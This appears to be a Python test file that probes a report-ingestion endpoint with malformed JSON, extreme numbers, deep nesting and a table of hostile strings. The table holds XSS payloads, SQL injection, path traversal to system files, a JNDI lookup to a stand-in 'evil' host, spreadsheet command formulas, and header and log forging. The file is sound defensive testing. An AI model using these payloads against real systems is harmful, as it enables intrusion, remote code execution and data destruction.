"""Rows 41 to 88: invalid JSON, numbers, depth, and strings."""

from __future__ import annotations

import json

from compilewatch.wire.codec import deflate

from tests.hostile.case import (
    BAD_REQUEST,
    NOT_JSON,
    STORED,
    TOO_LARGE,
    Case,
    Outcome,
    Send,
    rejected,
    replaced,
    spoil,
    text,
)
from tests.hostile.target import Answer, Target

EITHER = Outcome((400,), "bad_request|not_json")
INVALID = rejected("invalid_report")


def deep(levels: int) -> Send:
    """An unknown field that nests the whole text to a given depth."""
    inner = levels - 1
    return (
        replaced('"HERE"', "[" * inner + "]" * inner)
        if levels < 1000
        else text("[" * levels + "]" * levels)
    )


def written(change: bytes) -> Send:
    """A good body with bytes inserted after its first brace."""
    return lambda target: target.post(
        json.dumps(target.data()).encode().replace(b"{", b"{" + change, 1)
    )


def twice(target: Target) -> Answer:
    body = json.dumps(target.data())
    return target.post(body + body)


def cut(target: Target) -> Answer:
    return target.post(json.dumps(target.data())[:-7])


def trailing_comma(target: Target) -> Answer:
    return target.post(json.dumps(target.data())[:-1] + ",}")


def calls(literal: str) -> Send:
    """A good body with this literal as its number of calls."""

    def send(target: Target) -> Answer:
        data = target.data()
        data["reports"][0]["regions"][0]["calls"] = "CALLS"
        return target.post(json.dumps(data).replace('"CALLS"', literal))

    return send


def number(literal: str) -> Send:
    """A good body with this literal as its number of items."""

    def send(target: Target) -> Answer:
        data = target.data()
        data["reports"][0]["regions"][0]["items"] = "ITEMS"
        return target.post(json.dumps(data).replace('"ITEMS"', literal))

    return send


def sent(literal: str) -> Send:
    """A good body with this send time."""

    def send(target: Target) -> Answer:
        return target.post(json.dumps(target.data() | {"sent": "SENT"}).replace('"SENT"', literal))

    return send


def twin_key(target: Target) -> Answer:
    body = json.dumps(target.data())
    return target.post(body.replace('"calls": 100', '"calls": 99, "calls": 100', 1))


def many_keys(target: Target) -> Answer:
    data = target.data()
    data["reports"][0] |= {f"k{number:x}": number for number in range(110_000)}
    return target.post(deflate(json.dumps(data).encode()), Content_Encoding="gzip")


def finding(words: str) -> Send:
    """The words in every text field that an agent fills with foreign text."""

    def change(data: dict[str, object], report: dict[str, object]) -> None:
        report["findings"] = [{"kind": "graph_break", "text": words, "where": words, "count": 1}]
        at = report["window"][1]  # type: ignore[index]
        report["compiles"] = [
            {
                "at": at,
                "id": words[:60],
                "kind": "first",
                "outcome": "ok",
                "frame": words,
                "file": words,
                "reason": words,
                "seconds": {words[:60]: 1.0},
            }
        ]
        report["facts"] = [{"kind": "mark", "at": at, "data": {"name": words}}]

    return spoil(change)


def named(words: str) -> Send:
    """The words as the names of model, version and environment."""

    def change(data: dict[str, dict[str, str]], report: object) -> None:
        data["instance"] |= {"model": words, "version": words, "environment": words}

    return spoil(change)


def raw_text(inside: str) -> Send:
    """A finding with this literal as its text in the JSON."""

    def send(target: Target) -> Answer:
        data = target.data()
        data["reports"][0]["findings"] = [{"kind": "graph_break", "text": "TEXT", "count": 1}]
        return target.post(json.dumps(data).replace("TEXT", inside))

    return send


HOSTILE = {
    74: ("\u202egnp.exe", "\u2066left\u2069"),
    77: ("\x1b[31mred\x1b[0m", "\x1b]0;title\x07"),
    78: ("line\r\nSet-Cookie: a=b", "ok\nERROR forged line"),
    79: (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "javascript:alert(1)",
        "</title><svg/onload=alert(1)>",
    ),
    80: ("<!channel> <@U1> ```", "<https://evil.example|click>"),
    81: ("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)"),
    82: ("../../etc/passwd", "C:\\Windows\\win.ini", "\\\\evil\\share"),
    83: ("{{7*7}}", "%s%n%x", "{0.__class__}", "${jndi:ldap://evil}", "{% debug %}"),
    84: ("'; DROP TABLE model; --", "1 OR 1=1"),
    85: ("a" * 400 + "!", "(" * 200),
    86: ("caf\u00e9", "cafe\u0301"),
    87: ("r\u0430nker", "\u0440anker"),
}

CASES = (
    Case(41, "an empty string", text('""'), BAD_REQUEST),
    Case(41, "blanks", text("  "), NOT_JSON),
    *(Case(row, body, text(body), BAD_REQUEST) for row, body in ((42, "null"), (43, "[]"), (44, '"x"'), (44, "{}"), (44, "1"))),
    Case(45, "truncated", cut, EITHER),
    Case(46, "a trailing comma", trailing_comma, NOT_JSON),
    Case(47, "two documents", twice, NOT_JSON),
    Case(48, "a byte order mark", lambda target: target.post(b"\xef\xbb\xbf" + json.dumps(target.data()).encode()), NOT_JSON),
    Case(49, "UTF-16", lambda target: target.post(json.dumps(target.data()).encode("utf-16")), NOT_JSON),
    Case(50, "invalid UTF-8", written(b'"x": "\xff", '), NOT_JSON),
    Case(51, "overlong UTF-8", written(b'"x": "\xc0\xaf", '), NOT_JSON),
    *(Case(52, f"depth {levels}", deep(levels), EITHER) for levels in (18, 999, 1000, 100_000)),
    *(Case(row, literal, sent(literal), EITHER)
      for row, literal in ((53, "NaN"), (54, "Infinity"), (55, "-Infinity"), (56, "1e400"), (57, "1e100000"))),
    *(Case(row, f"{literal} in a report", number(literal), INVALID) for row, literal in ((56, "1e400"), (57, "1e100000"))),
    *(Case(row, f"{literal} in a report", number(literal), Outcome((200, 400), "bad_request|not_json|invalid_report"))
      for row, literal in ((53, "NaN"), (54, "Infinity"), (55, "-Infinity"))),
    Case(58, "1e-400", number("1e-400"), STORED),
    Case(59, "-0.0", number("-0.0"), STORED),
    Case(60, "4,300 digits", calls("1" * 4300), INVALID),
    Case(61, "4,301 digits", calls("1" * 4301), INVALID),
    *(Case(62, f"2^{power}", calls(str(1 << power)), INVALID) for power in (41, 53, 63, 64)),
    Case(63, "the same key twice: the last wins", twin_key, STORED),
    Case(64, "1 MiB of lists", text("[" + "[]," * 349_000 + "[]]"), EITHER),
    Case(65, "1 MiB of objects", text("[" + "{}," * 349_000 + "{}]"), EITHER),
    Case(66, "110,000 unknown keys", many_keys, STORED),
    *(Case(67, key, spoil(lambda data, report, key=key: report["regions"][0].update({key: 1, "eager_by": {key: 1}})), STORED)
      for key in ("__proto__", "constructor", "__class__")),
    Case(68, "an empty key", spoil(lambda data, report: report.update({"": 1})), STORED),
    Case(69, "a comment", written(b"/* x */"), NOT_JSON),
    Case(70, "single quotes", lambda target: target.post(json.dumps(target.data()).replace('"', "'")), EITHER),
    Case(71, "NUL in a name", named("a\0b"), BAD_REQUEST),
    Case(71, "NUL in a text", finding("a\0b"), INVALID),
    *(Case(row, inside, raw_text(inside), Outcome((200, 400), "bad_request|not_json|invalid_report"))
      for row, inside in ((72, "\\ud800"), (72, "\\udc00"), (73, "\\udc00\\ud800"))),
    Case(75, "a string of 10 MB", lambda target: target.gzip(target.data() | {"note": "ab" * 5_000_000}), TOO_LARGE),
    Case(75, "a string of 600 kB is cut", finding("x" * 100_000), STORED),
    Case(76, "100,000 combining marks", finding("a" + "\u0301" * 20_000), STORED),
    *(Case(row, words[:30], finding(words), STORED) for row, many in HOSTILE.items() for words in many),
    *(Case(row, f"{words[:30]} as a name", named(words), STORED) for row, many in HOSTILE.items() for words in many),
    Case(88, "a version of 10,000 letters is cut", named("v" * 10_000), STORED),
    Case(88, "a blank model", named("  "), BAD_REQUEST),
)  # fmt: skip
